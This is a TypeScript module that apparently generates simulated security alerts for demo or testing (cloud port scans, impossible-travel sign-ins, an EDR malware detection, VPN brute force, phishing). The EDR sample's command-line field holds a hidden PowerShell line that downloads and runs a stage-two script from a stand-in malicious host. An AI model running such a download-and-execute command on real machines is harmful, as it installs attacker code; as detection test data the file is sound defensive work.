import { randomBytes, randomInt } from 'node:crypto';
import type { JsonObject } from '../../../common/types/json';

export interface SimulatedAlert {
  connector: string;
  source: string;
  payload: JsonObject;
}

/** Documentation-range addresses (RFC 5737) so demo data never names a real party. */
const externalIp = () =>
  `${['198.51.100', '203.0.113', '192.0.2'][randomInt(3)]}.${randomInt(2, 250)}`;
const hex = (bytes: number) => randomBytes(bytes).toString('hex');
const now = () => new Date().toISOString();

function guarddutyPortscan(): SimulatedAlert[] {
  const remote = externalIp();
  return [
    {
      connector: 'guardduty',
      source: 'guardduty',
      payload: {
        schemaVersion: '2.0',
        accountId: '123456789012',
        region: 'eu-west-1',
        partition: 'aws',
        id: hex(16),
        arn: `arn:aws:guardduty:eu-west-1:123456789012:detector/${hex(16)}/finding/${hex(16)}`,
        type: 'Recon:EC2/PortProbeUnprotectedPort',
        resource: {
          resourceType: 'Instance',
          instanceDetails: {
            instanceId: `i-${hex(8)}`,
            instanceType: 't3.medium',
            networkInterfaces: [
              { privateIpAddress: '10.0.1.25', publicIp: '54.0.0.10', subnetId: 'subnet-0a1b2c3d' },
            ],
            tags: [{ key: 'Name', value: 'payments-api-1' }],
          },
        },
        service: {
          serviceName: 'guardduty',
          action: {
            actionType: 'PORT_PROBE',
            portProbeAction: {
              blocked: false,
              portProbeDetails: [
                {
                  localPortDetails: { port: 22, portName: 'SSH' },
                  remoteIpDetails: {
                    ipAddressV4: remote,
                    organization: { asnOrg: 'Example Hosting', isp: 'Example Hosting' },
                    country: { countryName: 'Netherlands' },
                  },
                },
              ],
            },
          },
          count: randomInt(5, 60),
          eventFirstSeen: now(),
          eventLastSeen: now(),
          archived: false,
        },
        severity: 5,
        createdAt: now(),
        updatedAt: now(),
        title: `Unprotected port on EC2 instance is being probed by ${remote}.`,
        description: `EC2 instance has an unprotected port 22 which is being probed by a known malicious host ${remote}.`,
      },
    },
  ];
}

function o365ImpossibleTravel(): SimulatedAlert[] {
  const user = `j.doe${randomInt(10, 99)}@contoso.example`;
  return [
    {
      connector: 'generic',
      source: 'microsoft-365',
      payload: {
        id: hex(16),
        azureTenantId: '00000000-0000-4000-8000-000000000000',
        category: 'ImpossibleTravel',
        title: 'Impossible travel activity',
        description: `Sign-ins for ${user} from two distant countries within 20 minutes.`,
        severity: 'medium',
        status: 'newAlert',
        createdDateTime: now(),
        eventDateTime: now(),
        vendorInformation: { provider: 'MCAS', vendor: 'Microsoft' },
        userStates: [
          {
            userPrincipalName: user,
            accountName: user.split('@')[0],
            logonIp: externalIp(),
            logonLocation: 'Lagos, NG',
          },
          {
            userPrincipalName: user,
            accountName: user.split('@')[0],
            logonIp: '198.51.100.77',
            logonLocation: 'Amsterdam, NL',
          },
        ],
      },
    },
  ];
}

function edrMalware(): SimulatedAlert[] {
  const sha256 = hex(32);
  return [
    {
      connector: 'generic',
      source: 'crowdstrike',
      payload: {
        metadata: {
          customerIDString: hex(16),
          offset: randomInt(1e6),
          eventType: 'EPPDetectionSummaryEvent',
          eventCreationTime: Date.now(),
          version: '1.0',
        },
        event: {
          Name: 'MaliciousDownloadExecuted',
          Description: 'A process executed a file downloaded from a known malicious domain.',
          Severity: 90,
          SeverityName: 'Critical',
          Tactic: 'Execution',
          Technique: 'User Execution',
          ComputerName: 'FIN-LAPTOP-07',
          UserName: 'a.smith',
          LocalIP: '10.20.30.44',
          FileName: 'invoice_viewer.exe',
          FilePath: '\\\\Device\\\\HarddiskVolume3\\\\Users\\\\a.smith\\\\Downloads\\\\',
          SHA256String: sha256,
          MD5String: hex(16),
          CommandLine:
            'powershell -nop -w hidden -c "iwr http://malicious-updates.example/stage2.ps1 | iex"',
          AgentId: hex(16),
          CompositeId: `${hex(16)}:ind:${hex(16)}`,
          FalconHostLink: `https://falcon.crowdstrike.com/activity-v2/detections/${hex(16)}`,
        },
      },
    },
  ];
}

function vpnBruteforce(): SimulatedAlert[] {
  const attacker = externalIp();
  return Array.from({ length: 5 }, (_, attempt) => ({
    connector: 'wazuh',
    source: 'wazuh',
    payload: {
      timestamp: new Date(Date.now() + attempt * 1000).toISOString().replace('Z', '+0000'),
      rule: {
        level: attempt < 4 ? 5 : 10,
        description:
          attempt < 4
            ? 'VPN authentication failed.'
            : 'VPN brute force: multiple authentication failures from one address.',
        id: attempt < 4 ? '81614' : '81615',
        groups: ['fortigate', 'vpn', 'authentication_failed'],
        mitre: { id: ['T1110'], tactic: ['Credential Access'] },
      },
      agent: { id: '000', name: 'wazuh-manager' },
      manager: { name: 'wazuh-manager' },
      id: `${Math.floor(Date.now() / 1000)}.${randomInt(1e6)}`,
      full_log: `date=2026-11-21 logdesc="SSL VPN login fail" srcip=${attacker} user="vpnuser${attempt}" reason="sslvpn_login_permission_denied"`,
      decoder: { parent: 'fortigate-firewall-v6', name: 'fortigate-firewall-v6' },
      data: { srcip: attacker, dstuser: `vpnuser${attempt}`, action: 'ssl-login-fail' },
      location: '10.0.0.1',
    },
  }));
}

function phishing(): SimulatedAlert[] {
  return [
    {
      connector: 'generic',
      source: 'email-gateway',
      payload: {
        alert_id: `PH-${randomInt(1e6)}`,
        title: 'User-reported phishing email',
        severity: 'high',
        timestamp: now(),
        recipient: 'finance.team@contoso.example',
        sender: 'billing@paypa1-secure.example',
        subject: 'Action required: invoice overdue',
        description:
          'Email asks the user to log in at hxxps://paypa1-secure[.]example/login and opens an attachment.',
        urls: ['hxxps://paypa1-secure[.]example/login?session=8812'],
        attachments: [{ filename: 'invoice.pdf.exe', sha256: hex(32) }],
        sender_ip: externalIp(),
      },
    },
  ];
}

export const SIM_SCENARIOS = {
  'guardduty-portscan': guarddutyPortscan,
  'o365-impossible-travel': o365ImpossibleTravel,
  'edr-malware': edrMalware,
  'vpn-bruteforce': vpnBruteforce,
  phishing,
} satisfies Record<string, () => SimulatedAlert[]>;

export type SimScenario = keyof typeof SIM_SCENARIOS;
export const SIM_SCENARIO_NAMES = Object.keys(SIM_SCENARIOS) as SimScenario[];
